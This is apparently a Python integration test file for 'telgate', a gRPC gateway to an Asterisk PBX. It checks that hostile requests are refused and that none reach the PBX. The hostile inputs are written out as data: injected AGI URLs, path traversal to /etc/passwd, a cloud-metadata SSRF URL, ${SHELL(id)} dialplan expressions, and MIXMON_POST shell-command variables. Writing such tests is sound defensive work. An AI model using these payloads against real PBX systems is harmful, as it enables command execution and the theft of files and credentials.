"""Requests a hostile caller would send, found by attacking the merged gateway
(a real gateway in front of the AMI simulator): each is refused with the
right status, a message that names what was wrong, and nothing reaches the
PBX (the simulator records every action it receives)."""

from __future__ import annotations

from typing import Any

import grpc
from google.protobuf import duration_pb2, timestamp_pb2
from google.protobuf.descriptor import FieldDescriptor
from telgate.v1 import (
    calls_pb2,
    calls_pb2_grpc,
    cdrs_pb2,
    cdrs_pb2_grpc,
    common_pb2,
    events_pb2,
    events_pb2_grpc,
    playback_pb2,
    playback_pb2_grpc,
    supervision_pb2,
    supervision_pb2_grpc,
)
from telgate_server.api.validation import limit_of
from telgate_server.app import Gateway
from telgate_server.errors import QUOTE_CHARS
from telgate_server.simulator.server import AmiSimulator

from tests.integration.test_calls import error_info, originate_request
from tests.integration.test_input_limits import (
    NOT_CALLED,
    actions_since,
    call,
    leaf_paths,
    mark,
    methods,
    with_value,
)


async def refused(call: Any, code: grpc.StatusCode) -> grpc.aio.AioRpcError:
    """The error of a call that must fail with ``code``."""
    try:
        await call
    except grpc.aio.AioRpcError as exc:
        assert exc.code() == code, f"{exc.code()}: {exc.details()}"
        return exc
    raise AssertionError("the call was accepted")


def into(app: str, data: str) -> calls_pb2.OriginateRequest:
    return calls_pb2.OriginateRequest(
        endpoint="Local/201@phones", application=calls_pb2.ApplicationTarget(name=app, data=data)
    )


async def test_queue_agi_argument_hidden_by_quotes_or_parentheses_is_refused(
    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
) -> None:
    # Asterisk splits Queue's data with quotes, parentheses, brackets and
    # backslashes hiding commas: each of these puts agi://... in the sixth
    # (AGI) argument, which a plain split(",") saw as empty.
    calls = calls_pb2_grpc.CallControlServiceStub(channel)
    before = len(sim.actions)
    for data in (
        'support,"t,x",,,,agi://203.0.113.9/run',
        "support,(,x),,,,agi://203.0.113.9/run",
        "support,t\\,x,,,,agi://203.0.113.9/run",
        "support,[,],,,,agi://203.0.113.9/run",
    ):
        exc = await refused(calls.Originate(into("Queue", data)), grpc.StatusCode.PERMISSION_DENIED)
        assert "AGI" in (exc.details() or ""), exc.details()
        assert error_info(exc).metadata["setting"] == "originate.allowed_applications"
    await mark(channel)
    assert actions_since(sim, before) == []
    # Commas that Asterisk does not split at, with no AGI argument, still go.
    answer = await calls.Originate(into("Queue", 'support,"t,x",,,30'))
    assert answer.call.unique_id


async def test_sound_files_outside_the_sounds_directory_or_urls_are_refused(
    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
) -> None:
    # StartPlayback refuses these recording names; Originate into the allowed
    # applications that play files took them as they were.
    calls = calls_pb2_grpc.CallControlServiceStub(channel)
    before = len(sim.actions)
    for app, data in (
        ("Playback", "/var/spool/asterisk/monitor/2026/12/01/out-200-201"),
        ("Playback", "hello-world&/etc/asterisk/manager"),
        ("Playback", "../../../../var/spool/asterisk/voicemail/default/200/INBOX/msg0000"),
        ("ControlPlayback", "/var/lib/asterisk/sounds/../../../../etc/passwd,3000"),
        ("ControlPlayback", '"/etc/passwd",3000'),
        ("Dial", "PJSIP/202,30,A(/var/spool/asterisk/monitor/secret)"),
        ("Dial", "PJSIP/202,30,A(hello^../../../etc/x)"),
        ("Queue", "support,,,/var/spool/asterisk/monitor/secret"),
        # Fetched by the PBX (res_http_media_cache): any address it can reach.
        ("Playback", "http://169.254.169.254/latest/meta-data/iam"),
        ("ControlPlayback", "https://intranet.example/admin?x=1,3000"),
    ):
        exc = await refused(calls.Originate(into(app, data)), grpc.StatusCode.INVALID_ARGUMENT)
        assert "sounds directory" in (exc.details() or ""), exc.details()
        assert error_info(exc).metadata["field"] == "application.data"
    await mark(channel)
    assert actions_since(sim, before) == []
    for app, data in (
        ("Playback", "custom/welcome&hello-world"),
        ("Dial", "Local/202@phones/n&PJSIP/203,30,A(beep)"),
    ):
        answer = await calls.Originate(into(app, data))
        assert answer.call.unique_id


async def test_dialplan_expressions_in_any_field_that_places_or_moves_a_call_are_refused(
    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
) -> None:
    calls = calls_pb2_grpc.CallControlServiceStub(channel)
    playback = playback_pb2_grpc.PlaybackServiceStub(channel)
    listen = supervision_pb2_grpc.SupervisionServiceStub(channel)
    expr = "${SHELL(id)}"
    before = len(sim.actions)
    attempts: list[tuple[str, Any]] = [
        ("caller_id.name", calls.Originate(originate_request(caller_id={"name": expr}))),
        ("caller_id.number", calls.Originate(originate_request(caller_id={"number": "$[1+1]"}))),
        ("account_code", calls.Originate(originate_request(account_code=expr))),
        ("endpoint", calls.Originate(originate_request(endpoint=f"Local/{expr}@phones"))),
        ("extension.extension", calls.Originate(originate_request(exten=expr))),
        (
            "destination.extension",
            calls.Transfer(
                calls_pb2.TransferRequest(
                    type=calls_pb2.TRANSFER_TYPE_REDIRECT,
                    channel=common_pb2.ChannelRef(name="PJSIP/201-00000001"),
                    destination=common_pb2.Destination(
                        extension=common_pb2.ExtensionDestination(context="phones", extension=expr)
                    ),
                )
            ),
        ),
        (
            "caller_id.name",
            playback.StartPlayback(
                playback_pb2.StartPlaybackRequest(
                    endpoint="Local/201@phones",
                    recording="hello-world",
                    caller_id=common_pb2.CallerId(name=expr),
                )
            ),
        ),
        (
            "listener_endpoint",
            listen.StartListen(
                supervision_pb2.StartListenRequest(
                    target_extension="201", listener_endpoint=f"Local/{expr}@phones"
                )
            ),
        ),
    ]
    for field, attempt in attempts:
        exc = await refused(attempt, grpc.StatusCode.PERMISSION_DENIED)
        assert field in (exc.details() or ""), exc.details()
        assert error_info(exc).metadata["setting"] == "originate.allow_expressions"
    await mark(channel)
    assert actions_since(sim, before) == []


async def test_invalid_durations_and_timestamps_are_invalid_argument(
    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
) -> None:
    calls = calls_pb2_grpc.CallControlServiceStub(channel)
    cdrs = cdrs_pb2_grpc.CdrServiceStub(channel)
    events = events_pb2_grpc.EventServiceStub(channel)
    before = len(sim.actions)
    # Nanos against the sign of seconds, or beyond ±999,999,999: not Durations.
    for seconds, nanos in ((5, -999_999_999), (0, 2_000_000_000), (-1, 5)):
        timeout = duration_pb2.Duration(seconds=seconds, nanos=nanos)
        exc = await refused(
            calls.Originate(originate_request(timeout=timeout)), grpc.StatusCode.INVALID_ARGUMENT
        )
        assert "timeout" in (exc.details() or "") and "Duration" in (exc.details() or "")
    # Timestamps outside years 1-9999 answered UNKNOWN (a ValueError).
    for stamp in (
        timestamp_pb2.Timestamp(seconds=2**62),
        timestamp_pb2.Timestamp(seconds=-(2**62)),
        timestamp_pb2.Timestamp(seconds=1, nanos=-5),
    ):
        request = cdrs_pb2.ListCdrsRequest(filter=cdrs_pb2.CdrFilter(start_time_from=stamp))
        exc = await refused(cdrs.ListCdrs(request), grpc.StatusCode.INVALID_ARGUMENT)
        assert "filter.start_time_from" in (exc.details() or ""), exc.details()
    # A negative heartbeat interval was taken as the shortest one.
    for interval in (duration_pb2.Duration(seconds=-5), duration_pb2.Duration(nanos=-1)):
        stream = events.Subscribe(events_pb2.SubscribeRequest(heartbeat_interval=interval))
        exc = await refused(stream.read(), grpc.StatusCode.INVALID_ARGUMENT)
        assert "heartbeat_interval" in (exc.details() or "")
    await mark(channel)
    assert actions_since(sim, before) == []


async def test_event_types_raw_names_and_positions_are_checked_before_anything(
    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
) -> None:
    # A type this gateway does not know, UNSPECIFIED, a raw name that is no
    # event name, and AFTER without a position: each INVALID_ARGUMENT naming
    # the field, quoting at most a short prefix, before any subscription.
    events = events_pb2_grpc.EventServiceStub(channel)
    before = len(sim.actions)
    subscribers = gateway.hub.subscriber_count
    f = events_pb2.EventFilter
    long_name = "Var Set" * 40
    cases: list[tuple[events_pb2.SubscribeRequest, str, str]] = [
        (
            events_pb2.SubscribeRequest(
                filter=f(types=[events_pb2.EVENT_TYPE_HOLD, events_pb2.EventType.ValueType(999)])
            ),
            "filter.types[1]",
            "is 999, not a EventType value",
        ),
        (
            events_pb2.SubscribeRequest(filter=f(types=[events_pb2.EVENT_TYPE_UNSPECIFIED])),
            "filter.types[0]",
            "EVENT_TYPE_UNSPECIFIED",
        ),
        (
            events_pb2.SubscribeRequest(filter=f(raw_names=["VarSet", long_name[:60]])),
            "filter.raw_names[1]",
            "is not a PBX event name",
        ),
        (
            events_pb2.SubscribeRequest(filter=f(raw_names=["1Hangup"])),
            "filter.raw_names[0]",
            "'1Hangup' is not a PBX event name",
        ),
        (
            events_pb2.SubscribeRequest(start=events_pb2.START_POSITION_AFTER),
            "after",
            "START_POSITION_AFTER needs `after`",
        ),
    ]
    for request, field, words in cases:
        exc = await refused(events.Subscribe(request).read(), grpc.StatusCode.INVALID_ARGUMENT)
        details = exc.details() or ""
        assert details.startswith(field) or f"`{field}`" in details, details
        assert words in details, details
        assert long_name[: QUOTE_CHARS + 1] not in details
        info = error_info(exc)
        assert info.reason == "ERROR_REASON_INVALID_FIELD"
        assert info.metadata["field"] == field
    assert gateway.hub.subscriber_count == subscribers
    # A name over 64 characters is refused by its limit.
    exc = await refused(
        events.Subscribe(events_pb2.SubscribeRequest(filter=f(raw_names=["V" * 65]))).read(),
        grpc.StatusCode.INVALID_ARGUMENT,
    )
    assert "filter.raw_names[0] is 65 characters long" in (exc.details() or "")
    # Good ones pass: a typed kind, and a raw name of the gateway's own.
    ok = events.Subscribe(
        events_pb2.SubscribeRequest(
            filter=f(types=[events_pb2.EVENT_TYPE_HOLD], raw_names=["telgate.LinkStateChanged"])
        )
    )
    first = await ok.read()
    assert isinstance(first, events_pb2.SubscribeResponse) and first.HasField("started")
    ok.cancel()
    await mark(channel)
    assert actions_since(sim, before) == []


def _raw(data: bytes) -> bytes:
    return data


# OriginateRequest.endpoint (field 3) holding invalid UTF-8, and bytes that
# are no protobuf message at all.
BAD_UTF8 = bytes([0x1A, 3, 0xFF, 0xFE, 0x41])
CORRUPT = b"\xff\xff\xff\xff"


async def test_requests_that_are_not_valid_protobuf_are_invalid_argument(
    sim: AmiSimulator,
    gateway: Gateway,
    channel: grpc.aio.Channel,
    caplog: Any,
) -> None:
    # They answered UNKNOWN "Unexpected DecodeError", each with a traceback
    # logged at ERROR.
    before = len(sim.actions)
    originate = channel.unary_unary("/telgate.v1.CallControlService/Originate", _raw, _raw)
    subscribe = channel.unary_stream("/telgate.v1.EventService/Subscribe", _raw, _raw)
    stream_cdrs = channel.unary_stream("/telgate.v1.CdrService/StreamCdrs", _raw, _raw)
    attempts = [
        ("OriginateRequest", "bad UTF-8", originate(BAD_UTF8)),
        ("OriginateRequest", "corrupt", originate(CORRUPT)),
        # SubscribeRequest.after (7) holding an EventPosition whose epoch is bad UTF-8.
        ("SubscribeRequest", "bad UTF-8", subscribe(bytes([0x3A, 4, 0x0A, 2, 0xFF, 0xFE])).read()),
        ("StreamCdrsRequest", "corrupt", stream_cdrs(CORRUPT).read()),
    ]
    for type_name, reason, attempt in attempts:
        exc = await refused(attempt, grpc.StatusCode.INVALID_ARGUMENT)
        details = exc.details() or ""
        assert f"not a valid telgate.v1.{type_name}" in details and reason in details, details
    await mark(channel)
    assert actions_since(sim, before) == []
    assert not [r for r in caplog.records if r.levelname == "ERROR"]


async def test_no_error_quotes_more_than_a_short_prefix_of_any_field(
    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
) -> None:
    # Each string field at its full length, in characters that pass the
    # bounds but fail later checks or the PBX: whatever refuses the request
    # quotes at most 40 characters of it (PauseMember / RemoveMember quoted
    # a missing member's interface and queue whole).
    errors = 0
    for method in methods():
        if method.full_name in NOT_CALLED:
            continue
        descriptor = method.input_type
        for path in leaf_paths(descriptor, FieldDescriptor.TYPE_STRING):
            limit = limit_of(path[-1].containing_type, path[-1].name)
            assert limit is not None
            for char in "Q/7":
                request = with_value(descriptor, path, char * limit.chars)
                try:
                    await call(channel, method, request)
                except grpc.aio.AioRpcError as exc:
                    errors += 1
                    assert char * (QUOTE_CHARS + 1) not in (exc.details() or ""), (
                        f"{method.name} {'.'.join(p.name for p in path)}: {exc.details()}"
                    )
    assert errors > 200


async def test_variables_the_pbx_runs_as_commands_are_refused(
    sim: AmiSimulator, gateway: Gateway, channel: grpc.aio.Channel
) -> None:
    # MONITOR_EXEC (res_monitor) and FreePBX/Issabel's MIXMON_POST are shell
    # commands the PBX runs when a recording stops; MIXMON_DIR is where it
    # writes recordings. Set on an originated call, they were sent as is.
    calls = calls_pb2_grpc.CallControlServiceStub(channel)
    before = len(sim.actions)
    for name in (
        "MIXMON_POST",
        "__MIXMON_POST",
        "monitor_exec",
        "_MONITOR_EXEC_ARGS",
        "MIXMON_DIR",
    ):
        request = originate_request(variables={name: "touch /tmp/pwned"})
        exc = await refused(calls.Originate(request), grpc.StatusCode.PERMISSION_DENIED)
        assert "originate.denied_variables" in (exc.details() or ""), exc.details()
        assert error_info(exc).reason == "ERROR_REASON_ORIGINATE_NOT_ALLOWED"
    await mark(channel)
    assert actions_since(sim, before) == []
    # Other plain variables still go.
    answer = await calls.Originate(originate_request(variables={"MIXMON_NOTE": "x"}))
    assert answer.call.unique_id
